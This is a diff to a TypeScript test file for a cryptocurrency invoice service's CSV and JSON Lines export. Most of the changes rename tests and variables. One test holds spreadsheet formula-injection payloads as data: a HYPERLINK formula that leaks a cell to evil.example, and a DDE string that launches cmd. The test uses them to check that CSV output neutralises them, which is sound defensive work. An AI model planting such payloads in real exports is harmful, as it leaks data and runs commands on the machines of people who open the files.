@@ -23,14 +23,14 @@ const unpaid = {
   confirmations: '',
 }
 
-/** What a rate makes of an amount, told with the arithmetic of whole numbers alone. */
+/** ceil(amount / rate) in integer arithmetic, independent of the service's code. */
 function coinsFor(amount: string, rate: string): string {
   const [fiat, per] = [parseDecimal(amount) ?? assert.fail(), parseDecimal(rate) ?? assert.fail()]
   return formatCoins(coinAmount(fiat, per))
 }
 
-test('an unpaid invoice is a row with what the merchant gave, and empty cells for what no payment has told', async () => {
-  const given = {
+test('an unpaid invoice is a row with the merchant’s fields, and empty payment cells', async () => {
+  const fields = {
     amount: 1234.5,
     currency: 'EUR',
     external_id: 'order 7',
@@ -40,7 +40,7 @@ test('an unpaid invoice is a row with what the merchant gave, and empty cells fo
     memo: 'two cups',
     metadata: { table: '17', guest: 'Ödön' },
   }
-  const { uids, token } = await withInvoices('unpaid', [given])
+  const { uids, token } = await withInvoices('unpaid', [fields])
   assert.deepEqual(await table('', token), [
     {
       ...unpaid,
@@ -59,7 +59,7 @@ test('an unpaid invoice is a row with what the merchant gave, and empty cells fo
   ])
 })
 
-test('what was not given is empty', async () => {
+test('missing fields are empty cells', async () => {
   const { uids, token } = await withInvoices('bare', [{}])
   const { text } = await request('/invoices.csv', { token })
   const created = new Date(clock.now()).toISOString()
@@ -87,8 +87,8 @@ test('a cancelled and an expired invoice are rows without a payment', async () =
 
 test('a paid invoice has the coin, the exact amounts, rate and source, fee, txid and confirmations of its payment', async (t) => {
   const rates = { 'LTC/USD': '80.5', 'DOGE/EUR': '0.123456789', 'BCH/JPY': '65001', 'BTC/USD': '50000' }
-  const told = Object.entries(rates).map(([pair, rate]) => `${pair}=${rate}`)
-  const paying = await startPaying(t, { settings: { RATES: `fixed:${told.join(',')}` } })
+  const expectedRates = Object.entries(rates).map(([pair, rate]) => `${pair}=${rate}`)
+  const paying = await startPaying(t, { settings: { RATES: `fixed:${expectedRates.join(',')}` } })
   for (const [amount, currency, coin] of [
     ['12.5', 'USD', 'LTC'],
     ['0.07', 'EUR', 'DOGE'],
@@ -149,18 +149,18 @@ test('a reversed invoice still shows its payment', async (t) => {
   })
 })
 
-test('when another transaction has paid in its place, the row has the txid of that one', async (t) => {
+test('after a replacement the row has the txid of the transaction that paid', async (t) => {
   const paying = await startPaying(t)
   const { invoice } = await paying.createInvoice()
   const { signed } = await paying.pay(invoice.uid, 'LTC')
-  const heir = await paying.rpc('LTC', 'sandbox_replace', signed.txid, true)
+  const replacement = await paying.rpc('LTC', 'sandbox_replace', signed.txid, true)
   await paying.mine('LTC')
   await paying.followed('LTC')
-  await until(async () => (await newest(paying))[0]?.txid === heir)
-  assert.equal((await paying.getInvoice(invoice.uid)).invoice.payment?.txid, heir)
+  await until(async () => (await newest(paying))[0]?.txid === replacement)
+  assert.equal((await paying.getInvoice(invoice.uid)).invoice.payment?.txid, replacement)
 })
 
-test('the rate is the one that the payment was judged by, whatever the prices are now', async (t) => {
+test('the rate is the one that the payment was verified with, whatever the current rates are', async (t) => {
   const before = await startService(t, { settings: { RATES: 'fixed:LTC/USD=100' }, clock })
   const { invoice } = await before.createInvoice()
   await before.pay(invoice.uid, 'LTC')
@@ -168,7 +168,7 @@ test('the rate is the one that the payment was judged by, whatever the prices ar
   const after = await startService(t, {
     settings: { RATES: 'fixed:LTC/USD=80' },
     clock,
-    beside: before.storage,
+    sharedStorage: before.storage,
   })
   await after.createInvoice()
   const rows = await newest(after)
@@ -181,7 +181,7 @@ test('the rate is the one that the payment was judged by, whatever the prices ar
   )
 })
 
-test('hostile texts are cells like others in the table, and unchanged in JSON Lines', async () => {
+test('hostile texts are quoted in CSV, and unchanged in JSON Lines', async () => {
   const hostile = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
     "+1+cmd|' /C calc'!A0",
@@ -208,8 +208,8 @@ test('hostile texts are cells like others in the table, and unchanged in JSON Li
     })),
   )
   const rows = (await table('', token)).toReversed()
-  for (const [place, text] of hostile.entries()) {
-    const { memo, external_id, business_id, location_id, register_id, metadata } = rows[place] ?? {}
+  for (const [index, text] of hostile.entries()) {
+    const { memo, external_id, business_id, location_id, register_id, metadata } = rows[index] ?? {}
     const cell = text.replaceAll(/(?<=^|[;\t\r\n])[=+\-@]|^[\t\r]/g, "'$&")
     const texts = [memo, external_id, business_id, location_id, register_id]
     assert.deepEqual(texts, [cell, cell, cell, cell, cell])
@@ -221,7 +221,7 @@ test('hostile texts are cells like others in the table, and unchanged in JSON Li
   )
 })
 
-test('JSON Lines: each line is what the list shows', async () => {
+test('JSON Lines: each line equals the list’s item', async () => {
   const { token, uids } = await withInvoices('lines', [
     { memo: 'paid', metadata: { a: 'b' } },
     { memo: 'open', external_id: 'x' },
@@ -235,7 +235,7 @@ test('JSON Lines: each line is what the list shows', async () => {
   assert.deepEqual(await lines('', token), (await list('', token)).invoices)
 })
 
-test('without an invoice there are the names of the columns alone, and no line', async () => {
+test('without invoices CSV has only its header, and JSON Lines is empty', async () => {
   const { token } = await withInvoices('empty', [])
   assert.equal(readCsv((await request('/invoices.csv', { token })).text).length, 1)
   assert.equal((await request('/invoices.jsonl', { token })).text, '')
